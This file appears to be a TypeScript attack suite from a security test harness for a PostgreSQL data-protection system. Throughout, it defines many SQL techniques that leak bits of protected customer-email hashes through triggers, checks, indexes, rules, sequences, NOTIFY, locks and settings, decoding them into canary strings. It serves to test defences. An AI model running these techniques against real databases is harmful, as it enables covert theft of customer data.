/** Code that asks a class little at a time and writes elsewhere, and is run for each of many rows: by calls, by triggers, by what definitions run. */

import { attackSuite, type Technique } from '../../support/attack.ts';
import { rowsOf, type WireClient, type WireMessage } from '../../support/wire-client.ts';

export const codeThatWrites = attackSuite('code-that-writes', {
  sql: `
    CREATE FUNCTION public.bit_of(k int) RETURNS int LANGUAGE plpgsql STABLE AS $$ BEGIN RETURN (SELECT get_bit(('x' || right(email, 8))::bit(32), k % 32) FROM crm.customers WHERE id = k / 32); END $$;
    CREATE TABLE public.noted (k int, who text DEFAULT current_user); CREATE TABLE public.numbers (k int PRIMARY KEY, n int); INSERT INTO public.numbers SELECT generate_series(32, 9999);
    CREATE FUNCTION public.note(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF public.bit_of(k) = 1 THEN INSERT INTO public.noted VALUES (k); END IF; RETURN 0; END $$;
    CREATE FUNCTION public.note_change() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN PERFORM public.note(NEW.k); RETURN NULL; END $$;
    CREATE TRIGGER t AFTER UPDATE ON public.numbers FOR EACH ROW EXECUTE FUNCTION public.note_change();
    GRANT ALL ON public.noted, public.numbers TO staff;
  `,
});
const { attack, group } = codeThatWrites;

/** `sql`: statements; OWN stands for a name, KEYS for the numbers of all bits, LAST for the greatest of them. The last one gives the keys whose bit is set. */
const written = (...sql: readonly string[]): Technique => async (attacker) => {
  const client = await attacker.connect();
  const last = 32 * attacker.customers + 31;
  const said = sql.map((each) => each.replaceAll('OWN', attacker.own).replaceAll('KEYS', `generate_series(32, ${last})`).replaceAll('LAST', String(last)));
  for (const each of said.slice(0, -1)) await client.query(each, 60_000);
  const hashes = new Map<number, bigint>();
  for (const [value] of rowsOf(await client.query(said.at(-1) as string, 30_000))) {
    const key = Number(String(value));
    hashes.set(key >> 5, (hashes.get(key >> 5) ?? 0n) | (1n << BigInt(31 - (key & 31))));
  }
  for (const [id, hash] of hashes) attacker.decoded += `cnry-${String(id).padStart(6, '0')}-${hash.toString(16).padStart(8, '0')} `;
};

const KEPT = 'CREATE TABLE public.OWN_kept (k int); CREATE TABLE public.OWN (k int, n int)';
const READ = 'SELECT k FROM public.OWN_kept';
const IF_SET = 'IF public.bit_of(k) = 1 THEN INSERT INTO public.OWN_kept VALUES (k); END IF; RETURN 0;';
const UNLESS = 'IF public.bit_of(k) = 0 THEN RETURN 0; END IF; INSERT INTO public.OWN_kept VALUES (k); RETURN 0;';
const functionOf = (body: string, returns = 'int'): string => `CREATE FUNCTION public.OWN_f(k int) RETURNS ${returns} LANGUAGE plpgsql AS $$ BEGIN ${body} END $$`;
const ASKS = functionOf(IF_SET);
/** A function that says of itself that it changes nothing may be called where nothing may be changed, and call one that does. */
const IMMUTABLE = `${ASKS}; CREATE FUNCTION public.OWN_i(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(k); RETURN k; END $$`;
const BRING = 'INSERT INTO public.OWN (k) SELECT KEYS';
const triggerOf = (body: string): string => `CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE k int := NEW.k; BEGIN ${body} END $$`;

group('by calls', 'derived copies', () => {
  attack('IF, in the select list', written(KEPT, ASKS, 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('RETURN before it', written(KEPT, functionOf(UNLESS), 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('CASE', written(KEPT, functionOf('CASE public.bit_of(k) WHEN 1 THEN INSERT INTO public.OWN_kept VALUES (k); ELSE NULL; END CASE; RETURN 0;'), 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('an error that ends the writing', written(KEPT, functionOf('BEGIN PERFORM 1 / public.bit_of(k); INSERT INTO public.OWN_kept VALUES (k); EXCEPTION WHEN division_by_zero THEN NULL; END; RETURN 0;'), 'SELECT count(public.OWN_f(k)) FROM KEYS k', READ), 'lax');
  attack('a set that the select list gives', written(KEPT, ASKS, 'SELECT count(n) FROM (SELECT public.OWN_f(KEYS) AS n) t', READ), 'lax');
  attack('an array that is taken apart', written(KEPT, ASKS, 'SELECT count(public.OWN_f(k)) FROM unnest(ARRAY(SELECT KEYS)) k', READ), 'lax');
  attack('a list of values', written(KEPT, ASKS, `SELECT count(public.OWN_f(k)) FROM (VALUES ${Array.from({ length: 8000 }, (_, i) => `(${i + 32})`).join(', ')}) v (k) WHERE k <= LAST`, READ), 'lax');
  attack('rows of a recursive query', written(KEPT, ASKS, 'WITH RECURSIVE r (k) AS (SELECT 32 UNION ALL SELECT k + 1 FROM r WHERE k < LAST) SELECT count(public.OWN_f(k)) FROM r', READ), 'lax');
  attack('a table of numbers', written(KEPT, ASKS, BRING, 'SELECT count(public.OWN_f(k)) FROM public.OWN', READ), 'lax');
  attack('an operator', written(KEPT, `${ASKS}; CREATE OPERATOR public.<!~ (FUNCTION = public.OWN_f, RIGHTARG = int)`, 'SELECT count(OPERATOR(public.<!~) k) FROM KEYS k', 'DROP OPERATOR public.<!~ (NONE, int)', READ), 'lax');
  attack('an aggregate', written(KEPT, `${ASKS}; CREATE FUNCTION public.OWN_s(int, int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_f($2); END $$; CREATE AGGREGATE public.OWN_a(int) (SFUNC = public.OWN_s, STYPE = int)`, 'SELECT public.OWN_a(k) FROM KEYS k', READ), 'lax');
  attack('a function in a function', written(KEPT, `${ASKS}; CREATE FUNCTION public.OWN_g(k int) RETURNS int LANGUAGE sql AS 'SELECT public.OWN_f(k)'`, 'SELECT count(public.OWN_g(k)) FROM KEYS k', READ), 'lax');
  attack('a loop of a block', written(KEPT, ASKS, 'DO $$ BEGIN FOR k IN 32 .. LAST LOOP PERFORM public.OWN_f(k); END LOOP; END $$', READ), 'lax');
  attack('a query of a block', written(KEPT, ASKS, 'DO $$ BEGIN PERFORM public.OWN_f(k) FROM KEYS k; END $$', READ), 'lax');
  attack('a loop of a procedure', written(KEPT, `${ASKS}; CREATE PROCEDURE public.OWN_p() LANGUAGE plpgsql AS $$ BEGIN FOR k IN 32 .. LAST LOOP PERFORM public.OWN_f(k); END LOOP; END $$`, 'CALL public.OWN_p()', READ), 'lax');
  attack('a view', written(KEPT, ASKS, 'CREATE VIEW public.OWN_v AS SELECT public.OWN_f(k) AS n FROM KEYS k', 'SELECT count(n) FROM public.OWN_v', READ), 'lax');
  attack('a condition of DELETE', written(KEPT, ASKS, BRING, 'DELETE FROM public.OWN WHERE public.OWN_f(k) = 1', READ), 'lax');
  attack('RETURNING', written(KEPT, ASKS, 'WITH i AS (INSERT INTO public.OWN (k) SELECT KEYS RETURNING public.OWN_f(k) AS n) SELECT count(n) FROM i', READ), 'lax');
  attack('a cast', written(KEPT, `${ASKS}; CREATE TYPE public.OWN_y AS (k int); CREATE FUNCTION public.OWN_c(public.OWN_y) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_f(($1).k); END $$; CREATE CAST (public.OWN_y AS int) WITH FUNCTION public.OWN_c(public.OWN_y)`, 'SELECT count(row(k)::public.OWN_y::int) FROM KEYS k', READ), 'lax');
});

for (const role of ['agent', 'lax'] as const) {
  group(`code of the house, ${role}`, 'derived copies', () => {
    const noted = 'SELECT k FROM public.noted WHERE who = current_user';
    attack('called for each row', written('SELECT count(public.note(k)) FROM KEYS k', noted), role);
    attack('run by a trigger for each row', written('UPDATE public.numbers SET n = 1 WHERE k <= LAST', noted), role);
    attack('run by a trigger, a key of several values', written('UPDATE public.numbers SET n = 1 WHERE k IN (SELECT KEYS)', noted), role);
  });
}

group('by what writing runs', 'derived copies', () => {
  for (const [name, when] of [['AFTER', 'AFTER INSERT'], ['BEFORE', 'BEFORE INSERT']] as const) {
    attack(`a trigger, ${name}`, written(KEPT, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), `CREATE TRIGGER t ${when} ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
    attack(`a trigger that returns before it, ${name}`, written(KEPT, triggerOf(UNLESS.replaceAll('RETURN 0', 'RETURN NEW')), `CREATE TRIGGER t ${when} ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
  }
  attack('a trigger, a list of values', written(KEPT, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), 'CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', `INSERT INTO public.OWN (k) VALUES ${Array.from({ length: 8000 }, (_, i) => `(${i + 32})`).join(', ')}`, 'SELECT k FROM public.OWN_kept WHERE k <= LAST'), 'lax');
  attack('a trigger, UPDATE', written(KEPT, BRING, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), 'CREATE TRIGGER t AFTER UPDATE ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', 'UPDATE public.OWN SET n = 1', READ), 'lax');
  attack('a trigger, COPY FROM', written(KEPT, triggerOf(IF_SET.replace('RETURN 0', 'RETURN NEW')), 'CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', 'SELECT 1', READ), 'lax', 0);
  attack('a check', written(KEPT, ASKS, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', BRING, READ), 'lax');
  attack('a check that comes to rows', written(KEPT, ASKS, BRING, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', READ), 'lax');
  attack('the check of a domain', written(KEPT, `${ASKS}; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0)`, 'SELECT count(k::public.OWN_d) FROM KEYS k', READ), 'lax');
  attack('the check of a domain, a column of it', written(KEPT, `${ASKS}; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0); CREATE TABLE public.OWN_n (k public.OWN_d)`, 'INSERT INTO public.OWN_n SELECT KEYS', READ), 'lax');
  attack('a policy', written(KEPT, ASKS, BRING, 'ALTER TABLE public.OWN ENABLE ROW LEVEL SECURITY; ALTER TABLE public.OWN FORCE ROW LEVEL SECURITY; CREATE POLICY p ON public.OWN USING (public.OWN_f(k) = 0)', 'SELECT count(*) FROM public.OWN', READ), 'lax');
  attack('an index that is made', written(KEPT, IMMUTABLE, BRING, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', READ), 'lax');
  attack('an index that is there', written(KEPT, IMMUTABLE, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', BRING, READ), 'lax');
  attack('a generated column', written(KEPT, IMMUTABLE, 'CREATE TABLE public.OWN_n (k int, g int GENERATED ALWAYS AS (public.OWN_i(k)) STORED)', 'INSERT INTO public.OWN_n SELECT KEYS', READ), 'lax');
  attack('a generated column that is added', written(KEPT, IMMUTABLE, BRING, 'ALTER TABLE public.OWN ADD g int GENERATED ALWAYS AS (public.OWN_i(k)) STORED', READ), 'lax');
  attack('the key of partitions', written(KEPT, IMMUTABLE, 'CREATE TABLE public.OWN_n (k int) PARTITION BY RANGE (public.OWN_i(k)); CREATE TABLE public.OWN_1 PARTITION OF public.OWN_n DEFAULT', 'INSERT INTO public.OWN_n SELECT KEYS', READ), 'lax');
  attack('the condition of a trigger', written(KEPT, `${ASKS}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW WHEN (public.OWN_f(NEW.k) = 1) EXECUTE FUNCTION public.OWN_t()', BRING, READ), 'lax');
  attack('statistics of an expression', written(KEPT, IMMUTABLE, BRING, 'CREATE STATISTICS public.OWN_x ON (public.OWN_i(k)), k FROM public.OWN', 'ANALYZE public.OWN', READ), 'lax', 0);
  attack('a type that is changed', written(KEPT, ASKS, BRING, 'ALTER TABLE public.OWN ALTER k TYPE int USING k + public.OWN_f(k)', READ), 'lax');
  attack('a rule', written(KEPT, ASKS, 'CREATE RULE r AS ON INSERT TO public.OWN DO INSTEAD SELECT public.OWN_f(NEW.k)', BRING, READ), 'lax');
});

/** Nothing of what the code is given is written: how far a sequence has come stands for it. */
const COUNTED = `CREATE SEQUENCE public.OWN_q; ${functionOf("IF public.bit_of(k) = 1 THEN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; END IF; RETURN 0;")}`;
const NEXT = "nextval('public.OWN_q')";
group('what is written is not what was given', 'derived copies', () => {
  attack('by calls', written(KEPT, COUNTED, `SELECT count(public.OWN_f((31 + ${NEXT})::int)) FROM KEYS`, READ), 'lax');
  attack('by a query of a block', written(KEPT, COUNTED, `DO $$ BEGIN PERFORM public.OWN_f((31 + ${NEXT})::int) FROM KEYS; END $$`, READ), 'lax');
  attack('by a loop of a block', written(KEPT, COUNTED, `DO $$ BEGIN FOR i IN 32 .. LAST LOOP PERFORM public.OWN_f((31 + ${NEXT})::int); END LOOP; END $$`, READ), 'lax');
  attack('by a block without a loop', async (attacker) => written(KEPT, COUNTED, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, () => `DO $$ BEGIN ${`PERFORM public.OWN_f((31 + ${NEXT})::int); `.repeat(960)} END $$`), READ)(attacker), 'lax');
  attack('by a list of calls', async (attacker) => written(KEPT, COUNTED, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, () => `SELECT ${Array.from({ length: 960 }, () => `public.OWN_f((31 + ${NEXT})::int)`).join(', ')}`), READ)(attacker), 'lax');
  attack('by functions that call functions', written(KEPT, COUNTED, ...[0, 1, 2, 3, 4, 5].map((i) => `CREATE FUNCTION public.OWN_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN ${`PERFORM ${i === 0 ? `public.OWN_f((31 + ${NEXT})::int)` : `public.OWN_${i - 1}()`}; `.repeat(4)} RETURN 0; END $$`), ...Array.from({ length: 7 }, () => 'SELECT public.OWN_5()'), READ), 'lax', 0);
  attack('by a function that calls itself', written(KEPT, "CREATE FUNCTION public.OWN_f(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN IF public.bit_of(k) = 1 THEN INSERT INTO public.OWN_kept VALUES (k); END IF; IF k % 200 = 199 THEN RETURN 0; END IF; RETURN public.OWN_f(k + 1); END $$",
    ...Array.from({ length: 38 }, (_, i) => `SELECT public.OWN_f(${i * 200})`), 'SELECT k FROM public.OWN_kept WHERE k <= LAST'), 'lax', 0);
  attack('by a trigger whose table it writes to', written(KEPT, triggerOf(`${IF_SET.replace('RETURN 0;', '')} IF k % 100 < 99 THEN INSERT INTO public.OWN (k) VALUES (k + 1); END IF; RETURN NEW;`), 'CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
    ...Array.from({ length: 40 }, (_, i) => `INSERT INTO public.OWN (k) VALUES (${i * 100})`), 'SELECT DISTINCT k FROM public.OWN_kept WHERE k BETWEEN 32 AND LAST'), 'lax', 0);
  attack('by a foreign key that carries on', written(KEPT, 'CREATE TABLE public.OWN_p (id int PRIMARY KEY); INSERT INTO public.OWN_p VALUES (1); CREATE TABLE public.OWN_c (k int, id int REFERENCES public.OWN_p ON DELETE CASCADE); INSERT INTO public.OWN_c SELECT k, 1 FROM KEYS k',
    triggerOf(IF_SET.replace('RETURN 0', 'RETURN OLD')).replace('NEW.k', 'OLD.k'), 'CREATE TRIGGER t AFTER DELETE ON public.OWN_c FOR EACH ROW EXECUTE FUNCTION public.OWN_t()', 'DELETE FROM public.OWN_p WHERE id = 1', READ), 'lax');
  attack('by numbers that all equal one', written(KEPT, 'CREATE TABLE public.OWN_b (k bigint PRIMARY KEY, n int); INSERT INTO public.OWN_b SELECT (1::bigint << 62) + k FROM generate_series(-200, 200) k',
    `CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ DECLARE k int := NEW.n + (NEW.k - (1::bigint << 62)); BEGIN ${IF_SET.replace('RETURN 0', 'RETURN NEW')} END $$`, 'CREATE TRIGGER t AFTER UPDATE ON public.OWN_b FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
    ...Array.from({ length: 20 }, (_, i) => `UPDATE public.OWN_b SET n = ${400 * i + 200} WHERE k = '4611686018427387904'::float8`), 'SELECT DISTINCT k FROM public.OWN_kept WHERE k BETWEEN 32 AND LAST'), 'lax', 0);
});

/** One row, and one call in the text: the server calls it more often. */
const STEPS = "CREATE SEQUENCE public.OWN_q; CREATE TABLE public.OWN_1 (k int PRIMARY KEY); INSERT INTO public.OWN_1 VALUES (1)";
const STEP = "IF public.bit_of((31 + nextval('public.OWN_q'))::int) = 1 THEN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; END IF;";
const times = (n: number, each: (i: number) => string): string => Array.from({ length: n }, (_, i) => each(i)).join(', ');
group('one call that is many', 'derived copies', () => {
  const often = (make: string, ask: string, runs: number): Technique => async (attacker) => written(KEPT, STEPS, make, ...Array.from({ length: Math.ceil((32 * attacker.customers) / runs) }, () => ask), READ)(attacker);
  attack('a row that is taken apart', often(`CREATE TYPE public.OWN_y AS (${times(960, (i) => `c${i} int`)}); CREATE FUNCTION public.OWN_f() RETURNS public.OWN_y LANGUAGE plpgsql AS $$ BEGIN ${STEP} RETURN NULL; END $$`, 'SELECT (public.OWN_f()).*', 960), 'lax');
  const immutable = `CREATE FUNCTION public.OWN_f(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN ${STEP} RETURN 0; END $$; CREATE FUNCTION public.OWN_i(int) RETURNS int IMMUTABLE COST 0.0001 LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(1); RETURN 0; END $$`;
  attack('a sub-select that is put in its place', often(immutable, `SELECT ${times(960, () => 'x')} FROM (SELECT public.OWN_i(k) AS x FROM public.OWN_1 WHERE k = 1) s`, 960), 'lax');
  attack('a function in SQL that is put in its place', often(`${immutable}; CREATE FUNCTION public.OWN_g(int) RETURNS int IMMUTABLE LANGUAGE sql AS 'SELECT ${Array.from({ length: 960 }, () => '$1').join(' + ')}'`, 'SELECT public.OWN_g(public.OWN_i(k)) FROM public.OWN_1 WHERE k = 1', 960), 'lax');
  attack('a collation by which many are equal', written(KEPT, "CREATE COLLATION public.OWN_ci (provider = icu, locale = 'und-u-ks-level2', deterministic = false); CREATE TABLE public.OWN_w (k text PRIMARY KEY); CREATE SEQUENCE public.OWN_q",
    "INSERT INTO public.OWN_w SELECT string_agg(CASE WHEN get_bit(n::bit(13), b) = 1 THEN 'A' ELSE 'a' END, '') FROM generate_series(32, LAST) n, generate_series(0, 12) b GROUP BY n", triggerOf(`${STEP} RETURN NULL;`).replace('DECLARE k int := NEW.k; ', ''), 'CREATE TRIGGER t AFTER UPDATE ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_t()',
    "UPDATE public.OWN_w SET k = k WHERE k = 'aaaaaaaaaaaaa' COLLATE public.OWN_ci", READ), 'lax');
});

/** The code that writes asks nobody: whoever calls it decides whether it runs. */
const MARKS = "CREATE SEQUENCE public.OWN_q; CREATE FUNCTION public.OWN_m() RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; RETURN 0; END $$";
group('who calls decides', 'derived copies', () => {
  attack('CASE in the select list', written(KEPT, MARKS, `SELECT count(CASE WHEN ${NEXT} > 0 AND public.bit_of(k) = 1 THEN public.OWN_m() END) FROM KEYS k`, READ), 'lax');
  attack('CASE over the class', written(KEPT, MARKS, `SELECT count(CASE WHEN ${NEXT} > 0 AND (SELECT get_bit(('x' || right(email, 8))::bit(32), k % 32) FROM crm.customers WHERE id = k / 32) = 1 THEN public.OWN_m() END) FROM KEYS k`, READ), 'lax');
  attack('FILTER', written(KEPT, MARKS, `SELECT count(public.OWN_m()) FILTER (WHERE ${NEXT} > 0 AND public.bit_of(k) = 1) FROM KEYS k`, READ), 'lax');
  attack('a list of calls', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `SELECT ${Array.from({ length: 960 }, (_each, i) => `CASE WHEN ${NEXT} > 0 AND public.bit_of(${32 + 960 * n + i}) = 1 THEN public.OWN_m() END`).join(', ')}`), READ)(attacker), 'lax');
  attack('a block without a loop', async (attacker) => written(KEPT, MARKS, ...Array.from({ length: Math.ceil(attacker.customers / 30) }, (_, n) => `DO $$ BEGIN ${Array.from({ length: 960 }, (_each, i) => `PERFORM CASE WHEN ${NEXT} > 0 AND public.bit_of(${32 + 960 * n + i}) = 1 THEN public.OWN_m() END;`).join(' ')} END $$`), READ)(attacker), 'lax');
  attack('an operator', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_o(int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN RETURN public.OWN_m(); END $$; CREATE OPERATOR public.<!~ (FUNCTION = public.OWN_o, RIGHTARG = int)`, `SELECT count(CASE WHEN ${NEXT} > 0 AND public.bit_of(k) = 1 THEN OPERATOR(public.<!~) 1 END) FROM KEYS k`, 'DROP OPERATOR public.<!~ (NONE, int)', READ), 'lax');
  /** A channel, or a table, for each bit of eight customers; `make`: a function that says so; `hear`: numbers of those that it did. */
  const signals = (make: (own: string, i: number) => string, begin: (own: string) => string, hear: (own: string, client: WireClient, answer: readonly WireMessage[]) => Promise<readonly number[]>): Technique => async (attacker) => {
    const { own } = attacker;
    const client = await attacker.connect();
    const bits = Array.from({ length: 256 }, (_, i) => i);
    await client.query(bits.map((i) => make(own, i)).join(';'), 60_000);
    for (let id = 1; id <= attacker.customers; id += 8) {
      await client.query(begin(own));
      const answer = await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${bits.map((i) => `WHEN ${i} THEN public.${own}_${i}()`).join(' ')} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 8} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
      const set = new Set(await hear(own, client, answer));
      await client.query('ROLLBACK');
      for (let k = 0; k < 8; k++) {
        const hash = bits.slice(0, 32).reduce((sum, n) => (set.has(32 * k + n) ? sum | (1n << BigInt(31 - n)) : sum), 0n);
        attacker.decoded += `cnry-${String(id + k).padStart(6, '0')}-${hash.toString(16).padStart(8, '0')} `;
      }
    }
  };
  attack('functions that NOTIFY on a channel each', signals((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN NOTIFY ${own}_c${i}; RETURN 0; END $$`, (own) => Array.from({ length: 256 }, (_, i) => `LISTEN ${own}_c${i}`).join(';'),
    async (own, _client, answer) => answer.filter(({ type }) => type === 'A').map(({ body }) => Number(body.toString('latin1', 4).split('\0')[0]?.slice(own.length + 2)))), 'lax');
  attack('functions that lock a table each', signals((own, i) => `CREATE TABLE public.${own}_l${i} (); CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN LOCK TABLE public.${own}_l${i}; RETURN 0; END $$`, () => 'BEGIN',
    async (own, client) => rowsOf(await client.query(`SELECT substr(relname, ${own.length + 3}) FROM pg_locks l JOIN pg_class c ON c.oid = l.relation WHERE relname LIKE '${own}\\_l%'`)).map(([n]) => Number(String(n)))), 'lax');
  attack('functions that change a setting each', signals((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS int LANGUAGE plpgsql AS $$ BEGIN SET LOCAL search_path = public, ${own}_p${i}; SET LOCAL app.${own}_p${i} = 'x'; RETURN 0; END $$`, () => 'BEGIN',
    async (own, client) => rowsOf(await client.query(`SELECT ${Array.from({ length: 256 }, (_, i) => `current_setting('app.${own}_p${i}', true)`).join(', ')}`))[0]?.flatMap((value, i) => (String(value) === 'x' ? [i] : [])) ?? []), 'lax');
  /** A sequence for each bit of eight customers, and a function that moves it; `make`: the function's text. */
  const sequences = (make: (own: string, i: number) => string): Technique => async (attacker) => {
    const { own } = attacker;
    const client = await attacker.connect();
    const bits = Array.from({ length: 256 }, (_, i) => i);
    await client.query(bits.map((i) => `CREATE SEQUENCE public.${own}_q${i}; ${make(own, i)}`).join(';'), 60_000);
    const look = async (): Promise<ReadonlyMap<number, string>> => new Map(rowsOf(await client.query(`SELECT substr(sequencename, ${own.length + 3}), coalesce(last_value, 0) FROM pg_sequences WHERE sequencename LIKE '${own}\\_q%'`)).map(([n, last]) => [Number(String(n)), String(last)]));
    for (let id = 1, before = await look(); id <= attacker.customers; id += 8) {
      await client.query(`SELECT count(CASE 32 * (c.id - ${id}) + n ${bits.map((i) => `WHEN ${i} THEN public.${own}_${i}()`).join(' ')} END) FROM crm.customers c, generate_series(0, 31) n WHERE c.id >= ${id} AND c.id < ${id + 8} AND get_bit(('x' || right(c.email, 8))::bit(32), n) = 1`, 30_000);
      const after = await look();
      for (let k = 0; k < 8; k++) {
        let hash = 0n;
        for (let n = 0; n < 32; n++) if (before.get(32 * k + n) !== after.get(32 * k + n)) hash |= 1n << BigInt(31 - n);
        attacker.decoded += `cnry-${String(id + k).padStart(6, '0')}-${hash.toString(16).padStart(8, '0')} `;
      }
      before = after;
    }
  };
  attack('functions in PL/pgSQL that move a sequence each', sequences((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS bigint LANGUAGE plpgsql AS $$ BEGIN RETURN nextval('public.${own}_q${i}'); END $$`), 'lax');
  attack('functions in SQL that move a sequence each', sequences((own, i) => `CREATE FUNCTION public.${own}_${i}() RETURNS bigint LANGUAGE sql AS $$ SELECT nextval('public.${own}_q${i}') $$`), 'lax');
  attack('a function in SQL', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_g(k int) RETURNS int LANGUAGE sql AS 'SELECT CASE WHEN nextval(''public.OWN_q'') > 0 AND public.bit_of(k) = 1 THEN public.OWN_m() END'`, 'SELECT count(public.OWN_g(k)) FROM KEYS k', READ), 'lax');
  attack('a trigger', written(KEPT, `${MARKS}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN IF nextval('public.OWN_q') > 0 AND public.bit_of(NEW.k) = 1 THEN PERFORM public.OWN_m(); END IF; RETURN NEW; END $$; CREATE TRIGGER t AFTER INSERT ON public.OWN FOR EACH ROW EXECUTE FUNCTION public.OWN_t()`, BRING, READ), 'lax');
  attack('a trigger of a table that is written to', written(KEPT, `CREATE SEQUENCE public.OWN_q; CREATE TABLE public.OWN_w (a int); CREATE FUNCTION public.OWN_m() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT last_value + 31 FROM public.OWN_q; RETURN NULL; END $$; CREATE TRIGGER t BEFORE INSERT ON public.OWN_w FOR EACH ROW EXECUTE FUNCTION public.OWN_m()`,
    `INSERT INTO public.OWN_w SELECT 1 FROM KEYS k WHERE ${NEXT} > 0 AND public.bit_of(k) = 1`, READ), 'lax');
  attack('a rule', written(KEPT, `${MARKS}; CREATE RULE r AS ON INSERT TO public.OWN DO INSTEAD SELECT CASE WHEN nextval('public.OWN_q') > 0 AND public.bit_of(NEW.k) = 1 THEN public.OWN_m() END`, BRING, READ), 'lax');
});

/** What the code reads is written as it is. */
const COPIES = `CREATE FUNCTION public.OWN_f(k int) RETURNS int LANGUAGE plpgsql AS $$ BEGIN INSERT INTO public.OWN_kept SELECT s FROM (SELECT ('x' || right(email, 8))::bit(32) AS hash FROM crm.customers WHERE id = k / 32) c, generate_series(k, k + 31) s WHERE get_bit(hash, s - k) = 1; RETURN 0; END $$`;
const COPIES_IMMUTABLE = `${COPIES}; CREATE FUNCTION public.OWN_i(k int) RETURNS int IMMUTABLE LANGUAGE plpgsql AS $$ BEGIN PERFORM public.OWN_f(k); RETURN k; END $$`;
const EACH = 'INSERT INTO public.OWN (k) SELECT 32 * n FROM generate_series(1, LAST / 32) n';
group('what is written as it is', 'derived copies', () => {
  attack('by a check', written(KEPT, COPIES, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', EACH, READ), 'lax');
  attack('by a check that comes to rows', written(KEPT, COPIES, EACH, 'ALTER TABLE public.OWN ADD CHECK (public.OWN_f(k) = 0)', READ), 'lax');
  attack('by the check of a domain', written(KEPT, `${COPIES}; CREATE DOMAIN public.OWN_d AS int CHECK (public.OWN_f(VALUE) = 0); CREATE TABLE public.OWN_n (k public.OWN_d)`, EACH.replace('OWN (k)', 'OWN_n'), READ), 'lax');
  attack('by an index that is made', written(KEPT, COPIES_IMMUTABLE, EACH, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', READ), 'lax');
  attack('by an index that is there', written(KEPT, COPIES_IMMUTABLE, 'CREATE INDEX ON public.OWN (public.OWN_i(k))', EACH, READ), 'lax');
  attack('by a generated column', written(KEPT, COPIES_IMMUTABLE, 'CREATE TABLE public.OWN_n (k int, g int GENERATED ALWAYS AS (public.OWN_i(k)) STORED)', EACH.replace('OWN (k)', 'OWN_n'), READ), 'lax');
  attack('by a default', written(KEPT, COPIES, "CREATE SEQUENCE public.OWN_q INCREMENT 32; ALTER TABLE public.OWN ALTER n SET DEFAULT public.OWN_f((32 + nextval('public.OWN_q'))::int - 1)", EACH, READ), 'lax');
  attack('by the condition of a trigger', written(KEPT, `${COPIES}; CREATE FUNCTION public.OWN_t() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN RETURN NEW; END $$`, 'CREATE TRIGGER t BEFORE INSERT ON public.OWN FOR EACH ROW WHEN (public.OWN_f(NEW.k) = 1) EXECUTE FUNCTION public.OWN_t()', EACH, READ), 'lax');
